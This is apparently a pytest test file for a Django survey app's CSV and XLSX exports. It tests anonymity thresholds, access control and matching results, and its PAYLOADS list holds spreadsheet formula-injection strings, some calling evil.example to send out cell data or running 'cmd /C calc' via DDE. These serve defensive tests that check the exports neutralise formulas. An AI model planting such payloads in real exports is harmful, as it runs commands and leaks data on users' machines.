"""Carol (consultant of Bakkerij De Korenschoof) and Alice (its HR) download exports of a round.

Bert is HR of another organisation (Garage Van Dijk); Sam is staff. The cast: tests/personas.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from io import StringIO

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.urls import reverse

from assessments import exports
from assessments.services import close_round

from .factories import make_campaign, make_organisation, make_questionnaire, make_responses

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\x00=1",
    '=HYPERLINK("http://evil.example/?x="&A1;"Click")',
    "=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1",
    "-1",
    "@1",
    "=A1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=";A1);"//a")',
    '=IMAGE("http://evil.example/x.png")',
    '=WEBSERVICE("http://evil.example/")',
    "+cmd|' /C notepad'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=2*3",
    "=RAND()",
    "\t+1",
    "\r\n=1",
    "\n=1",
    "=-1",
    "==1",
    '="a"&"b"',
    '=INDIRECT("A1")',
    "-=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_text_neutralises_every_payload(payload):
    safe = exports.safe_text(payload)
    assert safe.startswith("'")
    assert "\x00" not in safe


def test_safe_text_leaves_ordinary_text_alone():
    assert exports.safe_text("Bakkerij & Co — 'Winkel'") == "Bakkerij & Co — 'Winkel'"


# --- Fixtures ----------------------------------------------------------------------------


def _round(organisation, *, closed=True, questionnaire=None, delivery=2, without_d1=2, **fields):
    questionnaire = questionnaire or make_questionnaire(
        dimensions=2,
        items_per_dimension=3,
        reversed_codes=("D1.2", "D2.3"),
        not_applicable_codes=("D1.1", "D1.3"),
    )
    campaign, _ = make_campaign(
        organisation, questionnaire, teams=("Bakkerij", "Winkel", "Bezorging"), **fields
    )
    teams = {t.name: t for t in campaign.teams.all()}
    make_responses(
        campaign, 8, seed=1, team=teams["Bakkerij"], role="employee", open_text="Meer overleg"
    )
    make_responses(campaign, 6, seed=2, team=teams["Winkel"], role="manager")
    make_responses(campaign, delivery, seed=3, team=teams["Bezorging"], role="employee")
    # Respondents with only one of three D1 items valid: no D1 score (the ⅔ rule).
    make_responses(
        campaign, without_d1, seed=4, role="employee", values={"D1.1": None, "D1.3": None}
    )
    if closed:
        close_round(campaign)
    return campaign


@pytest.fixture
def bakery_round(cast):
    return _round(cast.bakery)


def _results_json(campaign, lang="en") -> dict:
    out = StringIO()
    call_command("campaign_results", str(campaign.pk), "--json", "--lang", lang, stdout=out)
    return json.loads(out.getvalue())


# --- Reading the files back ------------------------------------------------------------


def _xlsx_sheets(content: bytes) -> dict[str, list[list]]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return {
        sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in workbook.worksheets
    }


def _xlsx_cells(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _number(text: str):
    if text == "":
        return None
    if text in ("TRUE", "FALSE"):
        return text == "TRUE"
    try:
        return int(text)
    except ValueError:
        pass
    try:
        return float(text)
    except ValueError:
        return text


def _csv_sections(content: bytes) -> dict[str, list[list]]:
    """The aggregated CSV: a title row, a header, rows; a blank row between sections."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sections: dict[str, list[list]] = {}
    current = None
    for row in rows:
        if not row:
            current = None
        elif current is None:
            current = sections.setdefault(row[0], [])
        else:
            current.append([_number(v) for v in row])
    return sections


def _records(table: list[list]) -> list[dict]:
    header, *rows = table
    return [dict(zip(header, row, strict=False)) for row in rows]


def _csv_files(content: bytes) -> dict[str, list[list]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
            for name in archive.namelist()
        }


# --- The aggregated export equals campaign_results --------------------------------------


def _assert_tables_equal_results(sheets: dict[str, list[list]], results: dict) -> None:
    summary = {r["Key"]: r["Value"] for r in _records(sheets["Round"])}
    for key in ("respondents", "received", "threshold", "overall_index"):
        assert summary[key] == results[key], key
    assert summary["response_rate"] == results["response_rate"]["percent"]
    assert summary["response_rate_basis"] == results["response_rate"]["denominator"]
    assert summary["indicative"] == results["response_rate"]["indicative"]
    assert summary["previous_overall"] == results["previous"]["overall"]
    assert summary["previous_respondents"] == results["previous"]["respondents"]

    dims = {r["Code"]: r for r in _records(sheets["Dimensions"])}
    assert list(dims) == [d["code"] for d in results["dimensions"]]
    for d in results["dimensions"]:
        row = dims[d["code"]]
        assert row["Respondents (n)"] == d["n"]
        assert row["Mean"] == d["mean"]
        assert row["SD"] == d["sd"]
        assert (row["95% CI low"], row["95% CI high"]) == (d["ci_low"], d["ci_high"])
        assert (row["% positive"], row["% negative"]) == (d["pct_positive"], d["pct_negative"])
        assert [row[f"Scored {v} (count)"] for v in range(1, 6)] == d["distribution"]
        assert row["Band code"] == d["band"]
        assert row["Cronbach's alpha"] == d["alpha"]
        assert row["Alpha n"] == d["alpha_n"]

    items = {r["Item"]: r for r in _records(sheets["Items"])}
    for d in results["dimensions"]:
        for i in d["items"]:
            row = items[i["code"]]
            assert row["Mean"] == i["mean"]
            assert row["Valid answers"] == i["n_valid"]
            assert row["Don't know / not applicable"] == i["n_not_applicable"]
            assert row["Counts reversed"] == i["is_reversed"]
            assert (row["% agree (as worded)"], row["% disagree (as worded)"]) == (
                i["pct_agree"],
                i["pct_disagree"],
            )
            assert (row["% positive"], row["% negative"]) == (
                i["pct_positive"],
                i["pct_negative"],
            )
            assert [row[f"Scored {v} (count)"] for v in range(1, 6)] == i["distribution"]

    indicators = _records(sheets["Indicators"])
    assert [r["Mean"] for r in indicators] == [
        ind["mean"] for d in results["dimensions"] for ind in d["indicators"]
    ]

    top = _records(sheets["Strongest and weakest"])
    assert [r["Item"] for r in top if r["List"] == "Strongest"] == results["strongest"]
    assert [r["Item"] for r in top if r["List"] == "Weakest"] == results["weakest"]

    codes = [d["code"] for d in results["dimensions"]]
    names = {d["code"]: d["short_name"] for d in results["dimensions"]}
    breakdowns = _records(sheets["Breakdowns"])
    labels = {"team": "Team", "role": "Role", "tenure": "Years of service"}
    for name, breakdown in results["breakdowns"].items():
        rows = {r["Group"]: r for r in breakdowns if r["Breakdown"] == labels[name]}
        for group in breakdown["groups"]:
            row = rows[group["label"]]
            assert row["Respondents (n)"] == group["n"]
            assert row["Overall index"] == group["overall"]
            assert [row[f"{c} {names[c]}"] for c in codes] == [
                group["dimensions"][c] for c in codes
            ]
        for group in breakdown["suppressed"]:
            row = rows[group["label"]]
            assert row["Respondents (n)"] is None and row["Overall index"] is None
        assert len(rows) == len(breakdown["groups"]) + len(breakdown["suppressed"])

    role = {r["Group"]: r for r in _records(sheets["Managers vs. employees"])}
    comparison = results["role_comparison"]
    assert comparison["allowed"]
    for key in ("leadership", "employees"):
        label = comparison[key]["label"]
        assert role[label]["Respondents (n)"] == comparison[key]["n"]
        assert [role[label][f"{c} {names[c]}"] for c in codes] == [
            comparison[key]["dimensions"][c] for c in codes
        ]

    previous = {r["Dimension"]: r for r in _records(sheets["Previous round"])}
    for code, change in results["previous"]["dimensions"].items():
        assert previous[code]["Difference"] == change["difference"]
        assert previous[code]["Previous mean"] == change["previous_mean"]
        assert previous[code]["Meaningful difference"] == change["is_meaningful"]

    texts = [r["Answer"] for r in _records(sheets["Open answers"]) if r["Answer"]]
    assert sorted(texts) == sorted(t for q in results["open_answers"] for t in q["texts"])


def _json_numbers(value) -> set:
    if isinstance(value, bool):
        return set()
    if isinstance(value, int | float):
        return {value}
    if isinstance(value, dict):
        return set().union(*(_json_numbers(v) for v in value.values())) if value else set()
    if isinstance(value, list):
        return set().union(*(_json_numbers(v) for v in value)) if value else set()
    return set()


@pytest.fixture
def round_with_history(cast):
    """A closed previous round with high scores, then a current round: differences < 0."""
    bakery = cast.bakery
    previous = _round(
        bakery,
        closed=False,
        name="Meting 2024",
        opens_on=dt.date(2024, 3, 1),
        closes_on=dt.date(2024, 3, 20),
    )
    make_responses(previous, 10, seed=9, values={"D1.1": 5, "D1.2": 1, "D2.1": 5, "D2.2": 5})
    close_round(previous)
    current = _round(bakery, name="Meting 2025", closed=False, questionnaire=previous.questionnaire)
    # Five more employees without a team: then managers and employees can both be shown
    # next to the Bakkerij team (each overlap with it and with the rest is 0 or ≥ k).
    make_responses(current, 5, seed=11, role="employee")
    close_round(current)
    return current


def test_the_aggregated_xlsx_equals_campaign_results_json(round_with_history):
    results = _results_json(round_with_history)
    assert results["previous"] is not None
    _, mimetype, content = exports.build_aggregate_export(round_with_history, "xlsx", "en")
    assert mimetype == exports.XLSX_CONTENT_TYPE
    _assert_tables_equal_results(_xlsx_sheets(content), results)


def test_the_aggregated_csv_equals_campaign_results_json(round_with_history):
    results = _results_json(round_with_history)
    name, mimetype, content = exports.build_aggregate_export(round_with_history, "csv", "en")
    assert name.endswith("-results.csv") and mimetype.startswith("text/csv")
    _assert_tables_equal_results(_csv_sections(content), results)


def test_the_aggregated_export_holds_no_number_that_campaign_results_lacks(round_with_history):
    allowed = _json_numbers(_results_json(round_with_history))
    _, _, content = exports.build_aggregate_export(round_with_history, "xlsx", "en")
    sheets = _xlsx_sheets(content)
    for title, table in sheets.items():
        header, *rows = table
        for row in rows:
            for column, value in zip(header, row, strict=False):
                if column == "Rank" or isinstance(value, bool) or value is None:
                    continue
                if isinstance(value, int | float):
                    assert value in allowed, (title, column, value)


def test_negative_numbers_stay_numbers(round_with_history):
    results = _results_json(round_with_history)
    negatives = [
        c["difference"] for c in results["previous"]["dimensions"].values() if c["difference"] < 0
    ]
    assert negatives, "the fixture must produce a negative difference"
    _, _, content = exports.build_aggregate_export(round_with_history, "xlsx", "en")
    cells = [c for c in _xlsx_cells(content) if c.data_type == "n" and c.value is not None]
    assert all(any(c.value == n for c in cells) for n in negatives)
    _, _, content = exports.build_aggregate_export(round_with_history, "csv", "en")
    fields = [f for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for f in row]
    assert all(repr(n) in fields for n in negatives)
    assert not any(f.startswith("'-") and _number(f[1:]) != f[1:] for f in fields)


# --- Formula injection -----------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_in_organisation_team_and_open_answers_give_no_formulas(payload):
    if "\x00" in payload and connection.vendor == "postgresql":
        pytest.skip("PostgreSQL text cannot hold NUL, so this payload cannot be stored there")
    organisation = make_organisation(payload)
    questionnaire = make_questionnaire(dimensions=1, items_per_dimension=2)
    campaign, _ = make_campaign(
        organisation, questionnaire, teams=(payload, f"{payload} 2"), threshold=5
    )
    first, second = campaign.teams.all()
    make_responses(campaign, 6, seed=1, team=first, open_text=payload)
    make_responses(campaign, 6, seed=2, team=second, open_text=f"{payload} 2")
    close_round(campaign)
    files = [
        exports.build_aggregate_export(campaign, "xlsx", "en"),
        exports.build_aggregate_export(campaign, "csv", "en"),
        exports.build_response_export(campaign, "xlsx", "en"),
        exports.build_response_export(campaign, "csv", "en"),
    ]
    for name, _, content in files:
        if name.endswith(".xlsx"):
            cells = list(_xlsx_cells(content))
            assert [c.coordinate for c in cells if c.data_type == "f"] == []
            texts = [c.value for c in cells if isinstance(c.value, str)]
            numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
            assert numbers, "numbers must be written as numbers"
        elif name.endswith(".zip"):
            texts = [f for rows in _csv_files(content).values() for row in rows for f in row]
        else:
            texts = [f for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for f in row]
        dangerous = [t for t in texts if t.startswith(FORMULA_START) and _number(t) == t]
        assert dangerous == [], name
        # The payload is there, neutralised, in every file (organisation or team name).
        assert any(t.startswith("'") for t in texts), name


# --- The response-level export --------------------------------------------------------


def _response_rows(content: bytes) -> list[dict]:
    sheets = _xlsx_sheets(content)
    # The sheet is named in the file's language (Responses / Antwoorden).
    return _records(sheets.get("Responses") or sheets["Antwoorden"])


def _codebook_flags(content: bytes) -> dict[str, dict]:
    sheets = _xlsx_sheets(content)
    records = _records(sheets.get("Codebook") or sheets["Codeboek"])
    return {r["variable"]: r for r in records if r["variable"] and r["Dimension"]}


def _independent_dimension_means(rows: list[dict], flags: dict[str, dict]) -> dict[str, float]:
    """Plain Python, not scoring.py: 6 − x for reverse items, a score only with ⅔ valid."""
    dimensions: dict[str, list[str]] = {}
    for code, info in flags.items():
        if not code.endswith("_scored"):
            dimensions.setdefault(info["Dimension"], []).append(code)
    means = {}
    for dim, codes in dimensions.items():
        scores = []
        for row in rows:
            values = []
            for code in codes:
                raw = row[code]
                if raw is None or raw == "":
                    continue
                raw = int(raw)
                values.append(6 - raw if flags[code]["Counts reversed (1 = yes)"] == 1 else raw)
            if 3 * len(values) >= 2 * len(codes):
                scores.append(sum(values) / len(values))
        means[dim] = round(sum(scores) / len(scores), 2)
    return means


@pytest.fixture
def common_blanks_round(cast):
    """The bakery round where every pattern of "n.v.t." is shared by k rows: five people, not
    two, answer it on D1.1 and D1.3, and nobody from Bezorging answers (their two full rows
    would be the rare ones among the rows with a blank team)."""
    return _round(cast.bakery, delivery=0, without_d1=5)


def test_the_response_export_recomputes_the_dimension_means(common_blanks_round):
    results = _results_json(common_blanks_round)
    _, _, content = exports.build_response_export(common_blanks_round, "xlsx", "en")
    rows = _response_rows(content)
    assert len(rows) == results["respondents"]
    recomputed = _independent_dimension_means(rows, _codebook_flags(content))
    assert recomputed == {d["code"]: d["mean"] for d in results["dimensions"]}
    for row in rows:
        if row["D1.2"] is not None:
            assert row["D1.2_scored"] == 6 - row["D1.2"]
        assert row["D1.1_scored"] == row["D1.1"]


def test_the_response_csv_recomputes_the_same_means(common_blanks_round):
    results = _results_json(common_blanks_round)
    name, mimetype, content = exports.build_response_export(common_blanks_round, "csv", "en")
    assert mimetype == exports.ZIP_CONTENT_TYPE and name.endswith("-responses.zip")
    files = _csv_files(content)
    stem = name.removesuffix(".zip")
    assert sorted(files) == sorted([f"{stem}.csv", f"{stem}-codebook.csv"])
    rows = _records(files[f"{stem}.csv"])
    flags = {
        r["variable"]: {**r, "Counts reversed (1 = yes)": _number(r["Counts reversed (1 = yes)"])}
        for r in _records(files[f"{stem}-codebook.csv"])
        if r.get("variable") and r.get("Dimension")
    }
    recomputed = _independent_dimension_means(rows, flags)
    assert recomputed == {d["code"]: d["mean"] for d in results["dimensions"]}


def test_statements_whose_blanks_would_single_out_two_people_are_left_out_and_the_codebook_says_so(
    bakery_round,
):
    # Two of the 18 answered "n.v.t." on D1.1 and D1.3, the others on neither: in the file,
    # that pattern would single the two out (and their missing D1 score, next to the results,
    # would say which two the results leave out). D1's statements stay out of the file, for
    # every row; D2's are all there.
    content = exports.build_response_export(bakery_round, "xlsx", "en").content
    rows = _response_rows(content)
    assert len(rows) == 18
    assert not any(key.startswith("D1.") for key in rows[0])
    assert all(rows[0].keys() >= {f"D2.{i}" for i in (1, 2, 3)} for _ in rows)
    codebook = {
        r["variable"]: r["Description"]
        for r in _records(_xlsx_sheets(content)["Codebook"])
        if r.get("variable")
    }
    assert "D1" in codebook["Statements left out"]


def test_a_file_without_rare_blanks_keeps_every_statement(common_blanks_round):
    content = exports.build_response_export(common_blanks_round, "xlsx", "en").content
    rows = _response_rows(content)
    assert {f"D{d}.{i}" for d in (1, 2) for i in (1, 2, 3)} <= rows[0].keys()
    codebook = [r["variable"] for r in _records(_xlsx_sheets(content)["Codebook"])]
    assert "Statements left out" not in codebook


def test_rows_are_numbered_without_response_ids_or_dates(bakery_round):
    name, _, content = exports.build_response_export(bakery_round, "csv", "en")
    data = _csv_files(content)[name.replace(".zip", ".csv")]
    text = "\n".join(",".join(row) for row in data)
    assert not re.search(r"[0-9a-f]{8}-?[0-9a-f]{4}-?[0-9a-f]{4}", text)
    assert not re.search(r"\d{4}-\d{2}-\d{2}", text)
    assert data[0][0] == "row"
    assert sorted(int(row[0]) for row in data[1:]) == list(range(1, len(data)))


def test_rows_come_in_a_new_random_order_each_time(bakery_round):
    orders = {
        tuple(
            tuple(r.values())[1:]
            for r in _response_rows(
                exports.build_response_export(bakery_round, "xlsx", "en").content
            )
        )
        for _ in range(5)
    }
    assert len(orders) > 1


def test_segmentation_is_blank_for_a_team_below_k(bakery_round):
    rows = _response_rows(exports.build_response_export(bakery_round, "xlsx", "en").content)
    teams = [r["team"] for r in rows]
    # Bezorging has 2 respondents; Winkel is hidden too, else Bezorging = total − the rest.
    assert "Bezorging" not in teams
    assert teams.count("Bakkerij") == 8
    assert all(t in (None, "Bakkerij") for t in teams)
    blanks = teams.count(None)
    assert blanks == 0 or blanks >= bakery_round.threshold


def test_a_column_whose_groups_would_overlap_a_shown_team_below_k_is_left_blank(bakery_round):
    rows = _response_rows(exports.build_response_export(bakery_round, "xlsx", "en").content)
    # Bakkerij (8) is shown; the six managers are all in the rest (10 people): showing them
    # would leave 4 in the rest, so the role column stays blank — whatever columns are asked.
    assert {r["team"] for r in rows} == {"Bakkerij", None}
    assert all(r["role"] is None for r in rows)
    flags = _records(
        _xlsx_sheets(exports.build_response_export(bakery_round, "xlsx", "en").content)["Codebook"]
    )
    role = next(r for r in flags if r["variable"] == "role")
    assert "Manager" in role["Description"] and "be worked out" in role["Description"]
    _, _, content = exports.build_response_export(bakery_round, "xlsx", "en", segments=["role"])
    assert all(r["role"] is None for r in _response_rows(content))


def test_every_combination_of_released_columns_holds_at_least_k_respondents(cast):
    campaign = _round(cast.bakery, closed=False, ask_tenure=True)
    make_responses(campaign, 10, seed=7, role="manager", team=campaign.teams.get(name="Winkel"))
    close_round(campaign)
    rows = _response_rows(exports.build_response_export(campaign, "xlsx", "en").content)
    columns = [c for c in ("team", "role", "tenure") if c in rows[0]]
    combos: dict[tuple, int] = {}
    for row in rows:
        key = tuple(row[c] for c in columns)
        combos[key] = combos.get(key, 0) + 1
    assert all(n >= campaign.threshold for n in combos.values()), combos


def test_below_k_there_is_no_response_export(cast):
    questionnaire = make_questionnaire()
    campaign, _ = make_campaign(cast.bakery, questionnaire)
    make_responses(campaign, 4)
    close_round(campaign)
    with pytest.raises(exports.ExportUnavailable, match="fewer than 5"):
        exports.build_response_export(campaign, "csv", "en")
    with pytest.raises(exports.ExportUnavailable):
        exports.build_aggregate_export(campaign, "xlsx", "en")


def test_an_open_round_has_no_response_export(cast):
    campaign = _round(cast.bakery, closed=False)
    with pytest.raises(exports.ExportUnavailable, match="closed"):
        exports.build_response_export(campaign, "xlsx", "en")


def test_an_unknown_format_is_refused(bakery_round):
    with pytest.raises(ValueError, match="csv or xlsx"):
        exports.build_aggregate_export(bakery_round, "pdf", "en")


# --- Views ----------------------------------------------------------------------------


def _urls(campaign) -> list[str]:
    return [
        reverse(f"assessments:{name}", kwargs={"pk": campaign.pk, "fmt": fmt})
        for name in ("export_aggregate", "export_responses")
        for fmt in ("csv", "xlsx")
    ]


def test_urls_have_the_documented_shape(bakery_round):
    assert _urls(bakery_round)[0] == f"/rounds/{bakery_round.pk}/export/aggregate.csv"
    assert _urls(bakery_round)[3] == f"/rounds/{bakery_round.pk}/export/responses.xlsx"


def test_hr_of_another_organisation_gets_404_on_every_export_url(client, cast, bakery_round):
    client.force_login(cast.bert)
    for url in _urls(bakery_round):
        assert client.get(url).status_code == 404, url


def test_anonymous_visitors_are_sent_to_the_login_page(client, bakery_round):
    for url in _urls(bakery_round):
        response = client.get(url)
        assert response.status_code == 302 and "/login/" in response["Location"]


def test_hr_downloads_the_aggregated_export_of_their_round(client, cast, bakery_round):
    client.force_login(cast.alice)
    for fmt, mimetype in (("csv", "text/csv"), ("xlsx", exports.XLSX_CONTENT_TYPE)):
        url = reverse("assessments:export_aggregate", kwargs={"pk": bakery_round.pk, "fmt": fmt})
        response = client.get(url)
        assert response.status_code == 200
        assert response["Content-Type"].startswith(mimetype)
        assert response["Content-Disposition"].startswith("attachment; filename=")
        assert "no-store" in response["Cache-Control"] or "no-cache" in response["Cache-Control"]


def test_hr_gets_403_with_a_reason_on_the_response_export_of_their_own_round(
    client, cast, bakery_round
):
    client.force_login(cast.alice)
    for fmt in ("csv", "xlsx"):
        url = reverse("assessments:export_responses", kwargs={"pk": bakery_round.pk, "fmt": fmt})
        response = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
        assert response.status_code == 403
        assert "Content-Disposition" not in response
        assert b"consultant" in response.content


@pytest.mark.parametrize("persona", ["carol", "sam"])
def test_the_consultant_and_staff_download_the_response_export(client, cast, bakery_round, persona):
    client.force_login(getattr(cast, persona))
    url = reverse("assessments:export_responses", kwargs={"pk": bakery_round.pk, "fmt": "xlsx"})
    response = client.get(url)
    assert response.status_code == 200
    rows = _response_rows(response.content)
    assert len(rows) == bakery_round.responses.count()


def test_below_k_the_views_show_a_message_and_no_file(client, cast):
    campaign, _ = make_campaign(cast.bakery, make_questionnaire())
    make_responses(campaign, 3)
    close_round(campaign)
    client.force_login(cast.carol)
    for url in _urls(campaign):
        response = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
        assert response.status_code == 409
        assert "Content-Disposition" not in response
        assert b"fewer than 5 responses" in response.content


# --- Management command -----------------------------------------------------------------


def test_export_responses_writes_csv_and_codebook_side_by_side(bakery_round, tmp_path):
    target = tmp_path / "answers.csv"
    out = StringIO()
    call_command(
        "export_responses", str(bakery_round.pk), "--format", "csv", "-o", str(target), stdout=out
    )
    rows = list(csv.DictReader(io.StringIO(target.read_text("utf-8-sig"))))
    assert len(rows) == bakery_round.responses.count()
    assert (tmp_path / "answers-codebook.csv").exists()
    assert "answers-codebook.csv" in out.getvalue()


def test_export_responses_writes_an_xlsx_with_a_codebook_sheet(bakery_round, tmp_path):
    target = tmp_path / "answers.xlsx"
    call_command(
        "export_responses",
        str(bakery_round.pk),
        "--format",
        "xlsx",
        "-o",
        str(target),
        stdout=StringIO(),
    )
    # Dutch by default (--lang nl): Dutch sheet names.
    assert openpyxl.load_workbook(target).sheetnames == ["Antwoorden", "Codeboek"]


def test_export_responses_explains_bad_input(bakery_round, tmp_path):
    with pytest.raises(CommandError, match="no round with id"):
        call_command("export_responses", "999999", "-o", str(tmp_path / "x.csv"))
    with pytest.raises(CommandError, match="Unknown segmentation"):
        call_command(
            "export_responses", str(bakery_round.pk), "--by", "age", "-o", str(tmp_path / "x.csv")
        )
